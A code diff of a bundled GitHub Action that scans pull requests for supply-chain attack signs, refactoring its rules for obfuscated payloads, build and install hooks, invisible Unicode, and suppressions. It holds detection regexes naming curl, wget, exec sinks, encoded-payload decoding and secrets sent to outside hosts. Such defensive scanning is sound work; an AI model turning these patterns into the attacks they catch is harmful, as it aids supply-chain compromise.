@@ -23988,7 +23704,7 @@ async function scanBinary({ file, facts, oldSize }) {
     return [];
 }
 
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/versions.ts
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/sides.ts
 // Both sides of a changed file, parsed for the rules that compare them.
 
 /**
@@ -24266,56 +23982,6 @@ async function apiChecks(client, meta, opts) {
     return out;
 }
 
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/score.ts
-// The PR's 0-10 risk score: each finding weighs severity × confidence, weak
-// signals are capped so a pile of them cannot look like an attack, and chains
-// of families that make up an attack (GuardDog v3's "capability + threat")
-// add on top: obfuscation + execution, a build change + network, a new
-// workflow + secrets + an outside host.
-
-
-const SEVERITY = { critical: 4, high: 2.5, medium: 1.2, low: 0.4, info: 0.1 };
-const CONFIDENCE = { high: 1, medium: 0.7, low: 0.35 };
-/** Most that low-specificity findings (low/info severity or low confidence) can add together. */
-const WEAK_CAP = 1;
-function riskScore(findings) {
-    const active = findings.filter(isActive);
-    let strong = 0;
-    let weak = 0;
-    for (const f of active) {
-        const w = SEVERITY[f.severity] * CONFIDENCE[f.confidence];
-        if (f.severity === 'low' || f.severity === 'info' || f.confidence === 'low')
-            weak += w;
-        else
-            strong += w;
-    }
-    const family = (f) => rules_REGISTRY.get(f.ruleId)?.group;
-    const has = (pred) => active.some(pred);
-    const chains = [];
-    if (has((f) => f.ruleId === 'obfuscation/encoded-exec' || f.ruleId === 'obfuscation/bundled-js-payload') ||
-        (has((f) => family(f) === 'obfuscation') &&
-            has((f) => f.ruleId === 'build/import-time-process' || f.ruleId === 'build/setup-py'))) {
-        chains.push('obfuscated data reaches code execution');
-    }
-    if (has((f) => family(f) === 'build' && f.properties?.network === true) ||
-        (has((f) => family(f) === 'build') && has((f) => f.ruleId === 'workflow/secrets-to-outside-host'))) {
-        chains.push('build change with network access');
-    }
-    if (has((f) => f.ruleId === 'workflow/secrets-to-outside-host') ||
-        (has((f) => f.ruleId === 'workflow/all-secrets') && has((f) => f.ruleId === 'workflow/dangerous-trigger'))) {
-        chains.push('workflow sends secrets out');
-    }
-    if (has((f) => family(f) === 'binary') && has((f) => f.ruleId === 'build/autotools'))
-        chains.push('opaque test data with a build-script change (xz)');
-    if (has((f) => f.ruleId === 'meta/branch-name-shell' && f.severity === 'critical'))
-        chains.push('command in branch name');
-    const raw = strong + Math.min(weak, WEAK_CAP) + 2.5 * chains.length;
-    // Saturating: the first strong signals move the score most; 10 is reserved for chained evidence.
-    const score = Math.round(Math.min(10, 10 * (1 - Math.exp(-raw / 5))) * 10) / 10;
-    const band = score === 0 ? 'none' : score < 2 ? 'low' : score < 5 ? 'elevated' : score < 8 ? 'high' : 'critical';
-    return { score, band, chains };
-}
-
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/secrets.ts
 // Credentials added by the PR, found by secretlint's maintained recommended
 // preset (not our own vendor regexes). Only candidate lines are kept while
@@ -24394,22 +24060,361 @@ class SecretCollector {
     }
 }
 
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/text.ts
-// Rules over the lines a PR adds to text files: invisible Unicode,
-// obfuscation, build-system and import-time code. They see one file at a time
-// (the diff is streamed), so they are plain functions of the added lines.
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/suppressions.ts
+// The scan's own suppressions, as core entries that the shared runner applies
+// with the config file's ignores: inline comments
+// (`pr-anomaly-scan: ignore[rule-id] reason`) and the content-hash allowlist
+// of the config's `pr-anomaly-scan:` section.
 
 
+const SUPPRESS = /pr-anomaly-scan:\s*ignore\[([a-z0-9/,\s-]+)\](.*)$/;
+/** `pr-anomaly-scan: ignore[rule-id] reason` comments among the given lines. */
+function inlineIgnores(lines) {
+    const out = [];
+    for (const l of lines) {
+        const m = SUPPRESS.exec(l.text);
+        if (!m)
+            continue;
+        out.push({
+            line: l.line,
+            rules: m[1]
+                .split(',')
+                .map((s) => s.trim())
+                .filter(Boolean),
+            reason: m[2].replace(/(-->|\*\/)\s*$/, '').trim()
+        });
+    }
+    return out;
+}
+/**
+ * Rules no inline comment silences: the record of the ignores a PR adds, and
+ * a credential, which is public once pushed (it is revoked, not silenced; a
+ * config ignore by line or fingerprint still applies to a false alarm).
+ */
+const NOT_INLINE = new Set([rules_RULES.META_SUPPRESSION.id, rules_RULES.SECRET.id]);
+/**
+ * Entries for the ignores with a reason in `file`: each covers the rules it
+ * names on its own line and the next. `only` narrows the rules further.
+ */
+function inlineSuppressions(file, ignores, only = () => true) {
+    const path = literalPath(file);
+    return ignores
+        .filter((ig) => ig.reason)
+        .flatMap((ig) => ig.rules
+        .filter((rule) => !NOT_INLINE.has(rule) && only(rule))
+        .flatMap((rule) => [ig.line, ig.line + 1].map((line) => ({
+        rule,
+        path,
+        line,
+        reason: ig.reason,
+        source: `${file}:${ig.line}`,
+        kind: 'inSource'
+    }))));
+}
+/**
+ * The allowlist of known fixtures and lines: matched on the SHA-256 of a
+ * binary file's content or of a finding's trimmed line (`contentSha256`), so
+ * an allowed file or line stays allowed wherever it moves.
+ */
+function allowSuppressions(config) {
+    const allow = (config.sections['pr-anomaly-scan']?.allow ?? []);
+    return allow.map((a, i) => ({
+        ...(a.rule ? { rule: a.rule } : {}),
+        properties: { contentSha256: a.sha256 },
+        reason: a.reason,
+        ...(a.expires ? { expires: a.expires } : {}),
+        source: `${config.file ?? 'config'} pr-anomaly-scan.allow.${i} (sha256 ${a.sha256.slice(0, 12)})`
+    }));
+}
 
-const text_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/lines.ts
+// What every rule over added lines shares: the hit it returns, how evidence
+// is shortened, which files are prose, the keyword pre-checks, and the
+// finding a hit becomes.
+
+
+const lines_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
 const PROSE_EXT = /\.(md|rst|txt|tex|html?|po|pot|svg|xml|csv|tsv|bib|ipynb)$/i;
 const isProse = (p) => PROSE_EXT.test(p);
-// --- Unicode ------------------------------------------------------------------
+// Literal pre-checks (substring search, much faster than a regex alternation over megabytes) decide which
+// keyword groups occur in a file's added text; the per-line patterns run only for those.
+const GROUPS = {
+    decode: ['decode', 'fromhex', 'unhexlify', 'atob', 'Buffer.from'],
+    decompress: ['decompress', 'loads', 'Sync('],
+    chr: ['chr(', 'CharCode', '\\'],
+    packer: ['pyarmor', 'p,a,c,k,e,', '_0x', 'jsfuck'],
+    process: ['subprocess', 'os.system', 'os.popen', 'Thread(', 'Popen']
+};
+const hasKeyword = (all, group) => GROUPS[group].some((w) => all.includes(w));
+function hitToFinding(path, h) {
+    return createFinding(h.rule, {
+        message: h.message,
+        severity: h.severity,
+        confidence: h.confidence,
+        location: { file: path, line: h.line.line },
+        evidence: h.evidence,
+        key: h.line.text.trim().slice(0, 500),
+        // The content-hash allowlist matches the line's hash, so an allowed line stays allowed wherever it moves.
+        properties: { ...h.properties, contentSha256: (0,external_node_crypto_.createHash)('sha256').update(h.line.text.trim()).digest('hex') }
+    });
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/build.ts
+
+
+const NETWORK = /\b(urllib\.request|urlopen|requests\.(get|post)|httpx\.|http\.client|socket\.|curl\b|wget\b|Invoke-WebRequest|fetch\(|https?:\/\/)/;
+const PROCESS = /\b(subprocess|os\.system|os\.popen|Popen|check_output|check_call|os\.exec|pty\.spawn)\b/;
+const SETUP_HOOK = /\bcmdclass\b|class\s+\w+\((install|build_py|build_ext|develop|egg_info|sdist)\)/;
+const MESON = /\b(run_command|custom_target|run_target|generator)\s*\(/;
+const CMAKE = /\b(execute_process|file\s*\(\s*DOWNLOAD|ExternalProject_Add|FetchContent_Declare|add_custom_command)\b/i;
+const AUTOTOOLS_PATH = /(^|\/)(configure\.(ac|in)|Makefile\.(am|in)|aclocal\.m4|acinclude\.m4)$|\.m4$/;
+const AUTOTOOLS_BAD = /\beval\b|\$SHELL|\btr\s+["']|\bsed\s+["']r|\bhead\s+-c|\bxz\s+-d|\b(grep|sed)\s+-a|\|\s*sh\b/;
+const TEST_HOOK_PATH = /(^|\/)(conftest\.py|noxfile\.py|tox\.ini|pytest\.ini|setup\.cfg|Makefile|justfile|tasks\.py)$/;
+const MODULE_LEVEL_START = /^(subprocess\.(Popen|run|call|check_output|check_call)|os\.(system|popen)|threading\.Thread\(.*\)\.start|Popen)\s*\(|^\w+\s*=\s*subprocess\.Popen\(/;
+function buildHits(path, lines, all) {
+    const hits = [];
+    const name = path.split('/').pop();
+    const first = (re) => lines.find((l) => re.test(l.text));
+    if (name === 'setup.py') {
+        const hook = first(SETUP_HOOK);
+        const net = first(NETWORK);
+        const proc = first(PROCESS) ?? first(/\b(exec|eval)\s*\(/);
+        const at = net ?? proc ?? hook;
+        if (at) {
+            const what = [hook && 'a custom command', net && 'network access', proc && 'process or exec calls']
+                .filter(Boolean)
+                .join(', ');
+            hits.push({
+                rule: rules_RULES.BUILD_SETUP_PY,
+                line: at,
+                message: `setup.py gains ${what}.`,
+                evidence: lines_short(at.text),
+                severity: net || proc ? 'high' : 'medium',
+                properties: { network: Boolean(net), process: Boolean(proc) }
+            });
+        }
+    }
+    else if (name === 'meson.build' || name === 'meson_options.txt') {
+        const at = first(MESON);
+        const net = first(NETWORK);
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_NATIVE,
+                line: at,
+                message: 'Meson runs a command at configure or build time.',
+                evidence: lines_short(at.text),
+                severity: net ? 'high' : 'medium',
+                properties: { network: Boolean(net) }
+            });
+    }
+    else if (name === 'CMakeLists.txt' || /\.cmake$/.test(name)) {
+        const at = first(CMAKE);
+        const net = first(/file\s*\(\s*DOWNLOAD|https?:\/\//i);
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_NATIVE,
+                line: at,
+                message: 'CMake runs a command or downloads at configure time.',
+                evidence: lines_short(at.text),
+                severity: net ? 'high' : 'medium',
+                properties: { network: Boolean(net) }
+            });
+    }
+    else if (AUTOTOOLS_PATH.test(path)) {
+        const bad = first(AUTOTOOLS_BAD);
+        const at = bad ?? lines.find((l) => l.text.trim() && !/^\s*(dnl|#)/.test(l.text));
+        if (at) {
+            hits.push({
+                rule: rules_RULES.BUILD_AUTOTOOLS,
+                line: at,
+                message: bad
+                    ? 'Autotools/m4 code gains shell evaluation or byte-level text processing.'
+                    : 'Autotools/m4 build logic changed.',
+                evidence: lines_short(at.text),
+                severity: bad ? 'critical' : 'medium',
+                confidence: bad ? 'high' : 'medium'
+            });
+        }
+    }
+    else if (TEST_HOOK_PATH.test(path)) {
+        const at = first(NETWORK) ?? first(PROCESS) ?? first(/\b(exec|eval)\s*\(|b64decode/);
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_TEST_HOOK,
+                line: at,
+                message: `${name} gains process, network or exec calls.`,
+                evidence: lines_short(at.text),
+                properties: { network: NETWORK.test(at.text) }
+            });
+    }
+    else if (name === 'pyproject.toml') {
+        const at = first(/^\s*(build-backend|backend-path)\s*=/);
+        if (at) {
+            const inTree = /backend-path/.test(at.text) || Boolean(first(/^\s*backend-path\s*=/));
+            hits.push({
+                rule: rules_RULES.BUILD_BACKEND,
+                line: at,
+                message: inTree
+                    ? 'The build backend is loaded from code inside the repository (`backend-path`).'
+                    : 'The build backend changes.',
+                evidence: lines_short(at.text),
+                severity: inTree ? 'high' : 'medium'
+            });
+        }
+    }
+    else if (/^\.pre-commit-config\.ya?ml$/.test(name)) {
+        const at = first(/^\s*-?\s*repo:\s*local\b/);
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_PRECOMMIT_LOCAL,
+                line: at,
+                message: 'A local pre-commit hook runs a command from the repository.',
+                evidence: lines_short(at.text)
+            });
+    }
+    else if (/\.pth$/.test(name)) {
+        const at = first(/^\s*import\s/) ?? lines[0];
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_PTH,
+                line: at,
+                message: at.text.trim().startsWith('import')
+                    ? 'The .pth file runs code at interpreter start-up.'
+                    : 'A .pth file was added.',
+                evidence: lines_short(at.text),
+                severity: /^\s*import\s/.test(at.text) ? 'high' : 'low'
+            });
+    }
+    else if (/\.py$/.test(name) && (all === undefined || hasKeyword(all, 'process'))) {
+        const at = lines.find((l) => MODULE_LEVEL_START.test(l.text));
+        if (at) {
+            hits.push({
+                rule: rules_RULES.BUILD_IMPORT_PROCESS,
+                line: at,
+                message: 'A process or thread starts at module level, i.e. on import.',
+                evidence: lines_short(at.text),
+                severity: /DEVNULL|daemon\s*=\s*True|start_new_session/.test(at.text) || name === '__init__.py' ? 'high' : 'medium'
+            });
+        }
+    }
+    return hits;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/obfuscation.ts
+
+
+const B64_RUN = /[A-Za-z0-9+/]{160,}={0,2}|[A-Za-z0-9_-]{200,}={0,2}/;
+const HEX_RUN = /(?:[0-9a-fA-F]{2}){120,}|(?:\\x[0-9a-fA-F]{2}){40,}/;
+const DECODE = /\b(b64decode|b32decode|a85decode|b85decode|decodebytes|unhexlify|fromhex|atob|codecs\.decode|Buffer\.from\([^)]*['"](base64|hex)['"])/;
+const EXEC_SINK = /\b(exec|eval|compile|execfile|__import__|importlib\.import_module|subprocess\.\w+|os\.(system|popen|exec\w*|spawn\w*)|Popen|new Function|Function\(|child_process|execSync|spawnSync)\s*\(|\|\s*(ba|z)?sh\b|\bsh\s+-c\b|\$SHELL\b|\bpowershell\b/;
+const DECOMPRESS = /\b(marshal\.loads|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|pickle\.loads|zlib\.inflateSync|inflateSync|gunzipSync)\s*\(/;
+const CHR_CHAIN = /(?:chr\(\s*\d+\s*\)\s*\+\s*){5,}|String\.fromCharCode\(\s*(?:\d+\s*,\s*){7,}|(?:\\(?:u00|x)[0-9a-fA-F]{2}){12,}/;
+const PACKER = /__pyarmor__|pyarmor_runtime|eval\(function\(p,a,c,k,e,[dr]\)|(?:\b_0x[0-9a-f]{4,6}\b.*){6,}|\bjsfuck\b/;
+const BUNDLE_PATH = /(^|\/)(dist|build|out|lib)\/[^/]*\.(c|m)?js$|\.min\.js$|\.bundle\.js$/;
+const IMAGE_B64 = /^(iVBORw0KGgo|\/9j\/|R0lGOD|UklGR|PHN2Zy|Qk0)/;
+function encodedRun(t) {
+    const b = B64_RUN.exec(t);
+    if (b && !IMAGE_B64.test(b[0]) && /[0-9]/.test(b[0]) && /[a-z]/.test(b[0]) && /[A-Z]/.test(b[0]))
+        return b[0];
+    const h = HEX_RUN.exec(t);
+    return h?.[0];
+}
+function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n')) {
+    const hits = [];
+    const has = {
+        decode: hasKeyword(all, 'decode'),
+        decompress: hasKeyword(all, 'decompress'),
+        chr: hasKeyword(all, 'chr'),
+        packer: hasKeyword(all, 'packer')
+    };
+    const notebook = /\.ipynb$/.test(path);
+    const dataFile = /\.(json|csv|tsv|svg|txt|lock|map)$/i.test(path) && !notebook;
+    const bundle = BUNDLE_PATH.test(path);
+    // File-level facts: an encoded blob and an exec sink in the same added code make a chain.
+    let sinkLine;
+    let decodeLine;
+    const encoded = [];
+    for (const l of lines) {
+        const t = l.text;
+        if (t.length < 8)
+            continue;
+        const run = t.length >= 160 ? encodedRun(t) : undefined;
+        if (run)
+            encoded.push({ line: l, run });
+        if (!dataFile) {
+            if (has.decode && !decodeLine && DECODE.test(t))
+                decodeLine = l;
+            if (has.decompress &&
+                DECOMPRESS.test(t) &&
+                (/\(\s*b?['"]/.test(t.slice(t.search(DECOMPRESS))) || DECODE.test(t) || run)) {
+                hits.push({
+                    rule: rules_RULES.OBF_DECOMPRESS,
+                    line: l,
+                    message: 'Inline data is decompressed or unmarshalled.',
+                    evidence: lines_short(t)
+                });
+            }
+            if (has.chr && CHR_CHAIN.test(t))
+                hits.push({
+                    rule: rules_RULES.OBF_CHR_CHAIN,
+                    line: l,
+                    message: 'A string is assembled from character codes.',
+                    evidence: lines_short(CHR_CHAIN.exec(t)[0])
+                });
+            if (has.packer && PACKER.test(t))
+                hits.push({ rule: rules_RULES.OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: lines_short(t) });
+        }
+    }
+    // Execution sinks matter only next to encoded or decoded data: looked for only then.
+    if (!dataFile && (encoded.length || decodeLine))
+        sinkLine = lines.find((l) => EXEC_SINK.test(l.text));
+    const chained = sinkLine && (encoded.length || decodeLine);
+    if (chained) {
+        const at = decodeLine ?? encoded[0].line;
+        hits.push({
+            rule: bundle ? rules_RULES.OBF_BUNDLE : rules_RULES.OBF_ENCODED_EXEC,
+            line: at,
+            message: `Encoded or decoded data (line ${at.line}) and code execution (line ${sinkLine.line}) are both added to this file.`,
+            evidence: lines_short(at.text),
+            severity: bundle || (encoded.length && decodeLine) ? 'critical' : 'high',
+            confidence: encoded.length && decodeLine ? 'high' : 'medium',
+            properties: { sinkLine: sinkLine.line, sink: lines_short(sinkLine.text, 120) }
+        });
+    }
+    for (const { line, run } of encoded) {
+        if (chained && line === (decodeLine ?? encoded[0].line))
+            continue;
+        if (bundle) {
+            hits.push({
+                rule: rules_RULES.OBF_BUNDLE,
+                line,
+                message: `A ${run.length}-character encoded literal is added to a bundled file.`,
+                evidence: lines_short(run, 80),
+                severity: 'high',
+                confidence: 'medium'
+            });
+        }
+        else {
+            hits.push({
+                rule: rules_RULES.OBF_LONG_LITERAL,
+                line,
+                message: `A ${run.length}-character encoded literal${notebook ? ' in a notebook' : ''}.`,
+                evidence: lines_short(run, 80),
+                confidence: notebook || dataFile ? 'low' : 'medium'
+            });
+        }
+    }
+    return hits;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/unicode.ts
+
+
 const BIDI = /[\u202a-\u202e\u2066-\u2069]/u;
 const BIDI_MARKS = /[\u200e\u200f\u061c]/u;
 const RTL_LETTERS = /[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufeff]/u;
 // Invisible or blank look-alikes; ZWJ/ZWNJ and variation selectors are judged by their neighbours below.
-const text_INVISIBLE = /[\u200b\u2060-\u2064\u00ad\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
+const unicode_INVISIBLE = /[\u200b\u2060-\u2064\u00ad\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
 const VS = /[\ufe00-\ufe0f]/u;
 const EMOJI_BASE = /[\p{Extended_Pictographic}\p{Emoji_Component}\u2000-\u2bff\u3030\u303d\u3297\u3299]/u;
 const CJK = /\p{Script=Han}/u;
@@ -24435,7 +24440,7 @@ function unicodeHits(path, lines, all) {
                 rule: rules_RULES.UNI_BIDI,
                 line: l,
                 message: `${cp(bidi[0])} reorders how this line is displayed.`,
-                evidence: text_short(t)
+                evidence: lines_short(t)
             });
             continue;
         }
@@ -24445,7 +24450,7 @@ function unicodeHits(path, lines, all) {
                 rule: rules_RULES.UNI_BIDI,
                 line: l,
                 message: `${cp(c)} (a direction mark) in a line with no right-to-left text.`,
-                evidence: text_short(t),
+                evidence: lines_short(t),
                 severity: 'medium'
             });
             continue;
@@ -24456,7 +24461,7 @@ function unicodeHits(path, lines, all) {
                 rule: rules_RULES.UNI_INVISIBLE,
                 line: l,
                 message: `Invisible character ${cp(inv)} in an added line.`,
-                evidence: text_short(t)
+                evidence: lines_short(t)
             });
             continue;
         }
@@ -24466,7 +24471,7 @@ function unicodeHits(path, lines, all) {
                 rule: rules_RULES.UNI_HOMOGLYPH,
                 line: l,
                 message: glyph.message,
-                evidence: text_short(t),
+                evidence: lines_short(t),
                 properties: { word: glyph.word }
             });
     }
@@ -24486,7 +24491,7 @@ function invisibleIn(t, code) {
         const next = chars[i + 1] ?? '';
         if (c === '\ufeff' && i === 0)
             continue; // a byte-order mark at the start of a file
-        if (text_INVISIBLE.test(c)) {
+        if (unicode_INVISIBLE.test(c)) {
             const n = c.codePointAt(0);
             if (n >= 0xe0100 && CJK.test(prev))
                 continue; // ideographic variation sequences
@@ -24551,305 +24556,12 @@ function homoglyphIn(t) {
     }
     return undefined;
 }
-// --- obfuscation --------------------------------------------------------------
-const B64_RUN = /[A-Za-z0-9+/]{160,}={0,2}|[A-Za-z0-9_-]{200,}={0,2}/;
-const HEX_RUN = /(?:[0-9a-fA-F]{2}){120,}|(?:\\x[0-9a-fA-F]{2}){40,}/;
-const DECODE = /\b(b64decode|b32decode|a85decode|b85decode|decodebytes|unhexlify|fromhex|atob|codecs\.decode|Buffer\.from\([^)]*['"](base64|hex)['"])/;
-const EXEC_SINK = /\b(exec|eval|compile|execfile|__import__|importlib\.import_module|subprocess\.\w+|os\.(system|popen|exec\w*|spawn\w*)|Popen|new Function|Function\(|child_process|execSync|spawnSync)\s*\(|\|\s*(ba|z)?sh\b|\bsh\s+-c\b|\$SHELL\b|\bpowershell\b/;
-const DECOMPRESS = /\b(marshal\.loads|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|pickle\.loads|zlib\.inflateSync|inflateSync|gunzipSync)\s*\(/;
-const CHR_CHAIN = /(?:chr\(\s*\d+\s*\)\s*\+\s*){5,}|String\.fromCharCode\(\s*(?:\d+\s*,\s*){7,}|(?:\\(?:u00|x)[0-9a-fA-F]{2}){12,}/;
-const PACKER = /__pyarmor__|pyarmor_runtime|eval\(function\(p,a,c,k,e,[dr]\)|(?:\b_0x[0-9a-f]{4,6}\b.*){6,}|\bjsfuck\b/;
-const BUNDLE_PATH = /(^|\/)(dist|build|out|lib)\/[^/]*\.(c|m)?js$|\.min\.js$|\.bundle\.js$/;
-const IMAGE_B64 = /^(iVBORw0KGgo|\/9j\/|R0lGOD|UklGR|PHN2Zy|Qk0)/;
-function encodedRun(t) {
-    const b = B64_RUN.exec(t);
-    if (b && !IMAGE_B64.test(b[0]) && /[0-9]/.test(b[0]) && /[a-z]/.test(b[0]) && /[A-Z]/.test(b[0]))
-        return b[0];
-    const h = HEX_RUN.exec(t);
-    return h?.[0];
-}
-// Literal pre-checks (substring search, much faster than a regex alternation over megabytes) decide which
-// keyword groups occur in a file's added text; the per-line patterns run only for those.
-const GROUPS = {
-    decode: ['decode', 'fromhex', 'unhexlify', 'atob', 'Buffer.from'],
-    decompress: ['decompress', 'loads', 'Sync('],
-    chr: ['chr(', 'CharCode', '\\'],
-    packer: ['pyarmor', 'p,a,c,k,e,', '_0x', 'jsfuck'],
-    process: ['subprocess', 'os.system', 'os.popen', 'Thread(', 'Popen']
-};
-const hasKeyword = (all, group) => GROUPS[group].some((w) => all.includes(w));
-function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n')) {
-    const hits = [];
-    const has = {
-        decode: hasKeyword(all, 'decode'),
-        decompress: hasKeyword(all, 'decompress'),
-        chr: hasKeyword(all, 'chr'),
-        packer: hasKeyword(all, 'packer')
-    };
-    const notebook = /\.ipynb$/.test(path);
-    const dataFile = /\.(json|csv|tsv|svg|txt|lock|map)$/i.test(path) && !notebook;
-    const bundle = BUNDLE_PATH.test(path);
-    // File-level facts: an encoded blob and an exec sink in the same added code make a chain.
-    let sinkLine;
-    let decodeLine;
-    const encoded = [];
-    for (const l of lines) {
-        const t = l.text;
-        if (t.length < 8)
-            continue;
-        const run = t.length >= 160 ? encodedRun(t) : undefined;
-        if (run)
-            encoded.push({ line: l, run });
-        if (!dataFile) {
-            if (has.decode && !decodeLine && DECODE.test(t))
-                decodeLine = l;
-            if (has.decompress &&
-                DECOMPRESS.test(t) &&
-                (/\(\s*b?['"]/.test(t.slice(t.search(DECOMPRESS))) || DECODE.test(t) || run)) {
-                hits.push({
-                    rule: rules_RULES.OBF_DECOMPRESS,
-                    line: l,
-                    message: 'Inline data is decompressed or unmarshalled.',
-                    evidence: text_short(t)
-                });
-            }
-            if (has.chr && CHR_CHAIN.test(t))
-                hits.push({
-                    rule: rules_RULES.OBF_CHR_CHAIN,
-                    line: l,
-                    message: 'A string is assembled from character codes.',
-                    evidence: text_short(CHR_CHAIN.exec(t)[0])
-                });
-            if (has.packer && PACKER.test(t))
-                hits.push({ rule: rules_RULES.OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: text_short(t) });
-        }
-    }
-    // Execution sinks matter only next to encoded or decoded data: looked for only then.
-    if (!dataFile && (encoded.length || decodeLine))
-        sinkLine = lines.find((l) => EXEC_SINK.test(l.text));
-    const chained = sinkLine && (encoded.length || decodeLine);
-    if (chained) {
-        const at = decodeLine ?? encoded[0].line;
-        hits.push({
-            rule: bundle ? rules_RULES.OBF_BUNDLE : rules_RULES.OBF_ENCODED_EXEC,
-            line: at,
-            message: `Encoded or decoded data (line ${at.line}) and code execution (line ${sinkLine.line}) are both added to this file.`,
-            evidence: text_short(at.text),
-            severity: bundle || (encoded.length && decodeLine) ? 'critical' : 'high',
-            confidence: encoded.length && decodeLine ? 'high' : 'medium',
-            properties: { sinkLine: sinkLine.line, sink: text_short(sinkLine.text, 120) }
-        });
-    }
-    for (const { line, run } of encoded) {
-        if (chained && line === (decodeLine ?? encoded[0].line))
-            continue;
-        if (bundle) {
-            hits.push({
-                rule: rules_RULES.OBF_BUNDLE,
-                line,
-                message: `A ${run.length}-character encoded literal is added to a bundled file.`,
-                evidence: text_short(run, 80),
-                severity: 'high',
-                confidence: 'medium'
-            });
-        }
-        else {
-            hits.push({
-                rule: rules_RULES.OBF_LONG_LITERAL,
-                line,
-                message: `A ${run.length}-character encoded literal${notebook ? ' in a notebook' : ''}.`,
-                evidence: text_short(run, 80),
-                confidence: notebook || dataFile ? 'low' : 'medium'
-            });
-        }
-    }
-    return hits;
-}
-// --- build system and start-up hooks -------------------------------------------------
-const NETWORK = /\b(urllib\.request|urlopen|requests\.(get|post)|httpx\.|http\.client|socket\.|curl\b|wget\b|Invoke-WebRequest|fetch\(|https?:\/\/)/;
-const PROCESS = /\b(subprocess|os\.system|os\.popen|Popen|check_output|check_call|os\.exec|pty\.spawn)\b/;
-const SETUP_HOOK = /\bcmdclass\b|class\s+\w+\((install|build_py|build_ext|develop|egg_info|sdist)\)/;
-const MESON = /\b(run_command|custom_target|run_target|generator)\s*\(/;
-const CMAKE = /\b(execute_process|file\s*\(\s*DOWNLOAD|ExternalProject_Add|FetchContent_Declare|add_custom_command)\b/i;
-const AUTOTOOLS_PATH = /(^|\/)(configure\.(ac|in)|Makefile\.(am|in)|aclocal\.m4|acinclude\.m4)$|\.m4$/;
-const AUTOTOOLS_BAD = /\beval\b|\$SHELL|\btr\s+["']|\bsed\s+["']r|\bhead\s+-c|\bxz\s+-d|\b(grep|sed)\s+-a|\|\s*sh\b/;
-const TEST_HOOK_PATH = /(^|\/)(conftest\.py|noxfile\.py|tox\.ini|pytest\.ini|setup\.cfg|Makefile|justfile|tasks\.py)$/;
-const MODULE_LEVEL_START = /^(subprocess\.(Popen|run|call|check_output|check_call)|os\.(system|popen)|threading\.Thread\(.*\)\.start|Popen)\s*\(|^\w+\s*=\s*subprocess\.Popen\(/;
-function buildHits(path, lines, all) {
-    const hits = [];
-    const name = path.split('/').pop();
-    const first = (re) => lines.find((l) => re.test(l.text));
-    if (name === 'setup.py') {
-        const hook = first(SETUP_HOOK);
-        const net = first(NETWORK);
-        const proc = first(PROCESS) ?? first(/\b(exec|eval)\s*\(/);
-        const at = net ?? proc ?? hook;
-        if (at) {
-            const what = [hook && 'a custom command', net && 'network access', proc && 'process or exec calls']
-                .filter(Boolean)
-                .join(', ');
-            hits.push({
-                rule: rules_RULES.BUILD_SETUP_PY,
-                line: at,
-                message: `setup.py gains ${what}.`,
-                evidence: text_short(at.text),
-                severity: net || proc ? 'high' : 'medium',
-                properties: { network: Boolean(net), process: Boolean(proc) }
-            });
-        }
-    }
-    else if (name === 'meson.build' || name === 'meson_options.txt') {
-        const at = first(MESON);
-        const net = first(NETWORK);
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_NATIVE,
-                line: at,
-                message: 'Meson runs a command at configure or build time.',
-                evidence: text_short(at.text),
-                severity: net ? 'high' : 'medium',
-                properties: { network: Boolean(net) }
-            });
-    }
-    else if (name === 'CMakeLists.txt' || /\.cmake$/.test(name)) {
-        const at = first(CMAKE);
-        const net = first(/file\s*\(\s*DOWNLOAD|https?:\/\//i);
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_NATIVE,
-                line: at,
-                message: 'CMake runs a command or downloads at configure time.',
-                evidence: text_short(at.text),
-                severity: net ? 'high' : 'medium',
-                properties: { network: Boolean(net) }
-            });
-    }
-    else if (AUTOTOOLS_PATH.test(path)) {
-        const bad = first(AUTOTOOLS_BAD);
-        const at = bad ?? lines.find((l) => l.text.trim() && !/^\s*(dnl|#)/.test(l.text));
-        if (at) {
-            hits.push({
-                rule: rules_RULES.BUILD_AUTOTOOLS,
-                line: at,
-                message: bad
-                    ? 'Autotools/m4 code gains shell evaluation or byte-level text processing.'
-                    : 'Autotools/m4 build logic changed.',
-                evidence: text_short(at.text),
-                severity: bad ? 'critical' : 'medium',
-                confidence: bad ? 'high' : 'medium'
-            });
-        }
-    }
-    else if (TEST_HOOK_PATH.test(path)) {
-        const at = first(NETWORK) ?? first(PROCESS) ?? first(/\b(exec|eval)\s*\(|b64decode/);
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_TEST_HOOK,
-                line: at,
-                message: `${name} gains process, network or exec calls.`,
-                evidence: text_short(at.text),
-                properties: { network: NETWORK.test(at.text) }
-            });
-    }
-    else if (name === 'pyproject.toml') {
-        const at = first(/^\s*(build-backend|backend-path)\s*=/);
-        if (at) {
